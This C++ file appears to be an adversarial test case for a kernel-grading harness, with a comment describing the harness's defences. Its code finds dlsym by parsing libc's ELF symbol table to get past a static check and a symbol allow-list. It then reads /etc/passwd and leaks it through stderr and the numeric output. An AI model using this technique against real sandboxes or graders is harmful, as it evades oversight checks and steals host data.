/* kernelcrew
entry: tiny_sss
flags: [-O2]
*/
// ATTACK: reads a host file and smuggles it out, evading the static check and the
// symbol allow-list: `dlsym` is found in the C library's dynamic symbol table from the
// address of memcpy, and `open`, `read`, `write` and `_exit` through it. It reads
// /etc/passwd, writes it to the worker's stderr and exits with an error, hoping the
// harness quotes the worker's last stderr line in its verdict; it also packs the first
// bytes into the output.
// Defense: the harness never quotes what a CPU worker printed (the kernel controls that
// process), and outputs reach the verdict only as a numerical comparison. The sandbox
// hides the home directory (test_home_directory_is_hidden points this kernel at a file
// there); world-readable system files such as /etc/passwd stay readable.
#include <cstdint>
#include <cstring>

// -- a function of any loaded library, found without importing it ---------------------
// The address of an imported, allowed function (memcpy) lies inside the C library: walk
// back page by page to its ELF header, read its dynamic symbol table, find `dlsym` there,
// then ask dlsym for anything. Names are compared by hand (strcmp is not imported).
struct KcSym { uint32_t name; unsigned char info, other; uint16_t shndx; uint64_t value, size; };
static bool kc_same(const char* a, const char* b) {
    while (*a && *a == *b) { ++a; ++b; }
    return *a == *b;
}
static void* kc_libc_symbol(const char* want) {
    uintptr_t p = reinterpret_cast<uintptr_t>(reinterpret_cast<void*>(&memcpy)) & ~uintptr_t(0xfff);
    while (memcmp(reinterpret_cast<void*>(p), "\x7f" "ELF", 4) != 0) p -= 0x1000;
    const unsigned char* base = reinterpret_cast<const unsigned char*>(p);
    uint64_t phoff; uint16_t phentsize, phnum;
    memcpy(&phoff, base + 32, 8); memcpy(&phentsize, base + 54, 2); memcpy(&phnum, base + 56, 2);
    uintptr_t dyn = 0;
    for (int i = 0; i < phnum; ++i) {
        const unsigned char* ph = base + phoff + i * phentsize;
        uint32_t type; uint64_t vaddr;
        memcpy(&type, ph, 4); memcpy(&vaddr, ph + 16, 8);
        if (type == 2) dyn = p + vaddr;  // PT_DYNAMIC
    }
    if (!dyn) return nullptr;
    uintptr_t strtab = 0, symtab = 0;
    for (const int64_t* d = reinterpret_cast<const int64_t*>(dyn); d[0]; d += 2) {
        if (d[0] == 5) strtab = d[1];  // DT_STRTAB
        if (d[0] == 6) symtab = d[1];  // DT_SYMTAB
    }
    if (strtab < p) strtab += p;
    if (symtab < p) symtab += p;
    for (const KcSym* s = reinterpret_cast<const KcSym*>(symtab);
         reinterpret_cast<uintptr_t>(s) < strtab; ++s) {
        if (s->value && kc_same(reinterpret_cast<const char*>(strtab + s->name), want))
            return reinterpret_cast<void*>(p + s->value);
    }
    return nullptr;
}
typedef void* (*KcDlsym)(void*, const char*);
static void* kc_find(const char* name) {  // any symbol of the process (RTLD_DEFAULT)
    static KcDlsym dl = reinterpret_cast<KcDlsym>(kc_libc_symbol("dlsym"));
    return dl ? dl(nullptr, name) : nullptr;
}
// -------------------------------------------------------------------------------------
typedef int (*Open)(const char*, int, ...);
typedef long (*Read)(int, void*, unsigned long);
typedef long (*Write)(int, const void*, unsigned long);
typedef void (*Exit)(int);

static char buf[65536];

extern "C" void tiny_sss(const float* x, float* out, float a, float b, int64_t rows,
                         int64_t cols) {
    Open kc_open = reinterpret_cast<Open>(kc_find("open"));
    Read kc_read = reinterpret_cast<Read>(kc_find("read"));
    Write kc_write = reinterpret_cast<Write>(kc_find("write"));
    Exit kc_exit = reinterpret_cast<Exit>(kc_find("_exit"));
    int fd = kc_open ? kc_open("/etc/passwd", 0) : -1;
    long n = fd >= 0 && kc_read ? kc_read(fd, buf, sizeof buf) : 0;
    for (int64_t i = 0; i < rows; ++i) out[i] = i < n ? (float)buf[i] : x[i] * a + b + cols;
    if (n > 0 && kc_write && kc_exit) {
        kc_write(2, buf, n);
        // one line per record as the last stderr line, then die with an error
        for (long i = 0; i < n; ++i) buf[i] = buf[i] == '\n' ? ' ' : buf[i];
        kc_write(2, "\n", 1);
        kc_write(2, buf, n);
        kc_write(2, "\n", 1);
        kc_exit(3);
    }
}
